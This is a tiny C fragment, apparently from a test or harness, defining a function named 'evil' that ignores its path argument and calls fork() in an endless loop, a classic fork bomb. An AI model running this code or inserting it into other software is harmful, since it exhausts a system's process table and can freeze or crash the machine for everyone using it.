/* Forks as fast as it can. */
static void evil(const char *path)
{
	(void)path;
	for (;;)
		fork();
}
